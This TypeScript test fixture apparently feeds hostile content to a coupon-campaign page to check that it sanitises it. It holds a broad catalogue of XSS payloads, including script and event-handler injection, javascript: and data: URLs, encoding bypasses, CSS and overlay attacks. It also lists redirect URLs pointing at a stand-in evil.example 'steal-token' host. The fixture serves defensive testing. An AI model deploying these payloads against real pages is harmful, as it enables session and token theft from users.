import type { ActivityFixture } from '../campaign/activityFixture';

/** Set by a payload that runs; checks look for `window.__hostile`. */
export const MARK = '(window.__hostile=(window.__hostile||0)+1)';
export const EVIL = 'https://evil.example';

/**
 * Rules that try every way of running code, leaving the page or covering it. None may work; the harmless text must
 * stay.
 */
export const HOSTILE_HTML = [
  '<h3>活动规则（含恶意内容）</h3><p>这一段是正常文字，应当正常显示。</p>',
  `<script>${MARK}</script><SCRIPT SRC="${EVIL}/x.js"></SCRIPT>`,
  `<img src="x" onerror="${MARK}"><img src="${EVIL}/pixel.gif" width="1" height="1"><img src="data:image/svg+xml,<svg onload=${MARK}>">`,
  `<svg onload="${MARK}"><script>${MARK}</script><animate onbegin="${MARK}" attributeName="x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}"></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${MARK}">点我</a><a href="JaVa&#10;ScRiPt:${MARK}">换行绕过</a><a href="&#106;avascript:${MARK}">实体绕过</a>`,
  `<a href="data:text/html,<script>${MARK}</script>">数据链接</a><a href="//evil.example/phish" target="_blank">仿冒页面</a>`,
  `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>parent.${MARK}</script>"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<form action="${EVIL}/steal"><input name="mobile" autofocus onfocus="${MARK}"><button formaction="javascript:${MARK}">提交</button></form>`,
  `<p style="background:url(javascript:${MARK});width:expression(${MARK})">样式攻击</p><p style="position:fixed;inset:0;z-index:99999;background:#fff;background-image:url(${EVIL}/bg.png)">遮罩攻击</p>`,
  `<style>@import url(${EVIL}/x.css);body{display:none}</style><link rel="stylesheet" href="${EVIL}/x.css"><base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}"><video src=x onerror="${MARK}"></video><details open ontoggle="${MARK}"><summary>展开</summary></details>`,
  `<p onclick="${MARK}" onmouseover="${MARK}">事件属性</p><p id="app" class="taro_page">抢占标识</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript><!--><img src=x onerror="${MARK}">-->`,
  '<p>未闭合 <b>加粗 <i>斜体<p>下一段 < 不是标签 & 也不是实体 &#x1F4E6; &unknown;',
  `${'<div>'.repeat(2000)}深层嵌套${'</div>'.repeat(2000)}`,
  `<p>${'长'.repeat(3000)}</p>`,
  '<p>最后一段正常文字，应当正常显示。</p>',
].join('\n');

/** An activity whose every text and address is an attack. */
export const HOSTILE_ACTIVITY: ActivityFixture = {
  code: 'RC-HOSTILE',
  name: `<b onclick="${MARK}">恶意活动</b>`,
  title: `</title><script>${MARK}</script>恶意活动`,
  description: HOSTILE_HTML,
  startsInHours: -24,
  endsInHours: 24 * 30,
  biz: 2,
  scene: 1,
  clientMap: { '0': '<img src=x onerror=alert(1)>' },
  config: {
    homePageImgUrl:
      '{origin}/__sandbox/art/poster.svg?theme=night&title=%E6%81%B6%E6%84%8F%E5%86%85%E5%AE%B9&sub=%E4%BB%80%E4%B9%88%E9%83%BD%E4%B8%8D%E4%BC%9A%E5%8F%91%E7%94%9F&amount=5&unit=%E5%85%83',
    qrCodeImgUrl: `javascript:${MARK}`,
    qrCodeButtonText: `<img src=x onerror="${MARK}">去寄件\u202e件寄去`,
    qrCodeButtonJumpUrl: `javascript:${MARK}`,
    popupSingleStyleImgUrl: `data:text/html,<script>${MARK}</script>`,
    popupMultipleStyleImgUrl: `");background:url("${EVIL}/bg.png`,
    popupButtonJumpUrl: '//evil.example/steal-token',
    shareTitle: `\u202e题标享分\u202c<script>${MARK}</script>`,
    shareSummary: '零宽\u200b\u200c\u200d\ufeff字符'.repeat(40),
    shareMiniPicImgUrl: `${EVIL}/share.png`,
  },
  coupons: [
    {
      type: 3,
      cost: '5',
      title: `<script>${MARK}</script>寄件券`,
      desc: `\u202e券换兑金现\u202c<img src=x onerror="${MARK}">`,
      validDays: 30,
    },
    {
      type: 2,
      cost: '8.5',
      title: '超长标题'.repeat(120),
      desc: '零\u200b宽\u200b字\u200b符'.repeat(30),
      validDays: 30,
    },
    {
      type: 5,
      cost: '0',
      title: '[链接](javascript:alert(1))',
      desc: `intent://evil.example#Intent;scheme=https;end`,
      validDays: 30,
    },
  ],
  stock: 100_000,
  isHeldByEverybody: false,
};

/** Jump addresses that must never be followed; journeys put them one by one into a faked response. */
export const HOSTILE_URLS: readonly string[] = [
  `javascript:${MARK}`,
  ` \tjavascript:${MARK}`,
  `JAVASCRIPT:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/steal-token',
  '\\\\evil.example\\steal',
  '/\\evil.example',
  'https://evil.example/steal',
  'https://evil.example@localhost/',
  'https://localhost.evil.example/',
  'intent://evil.example#Intent;scheme=https;end',
  'blob:https://evil.example/1',
];
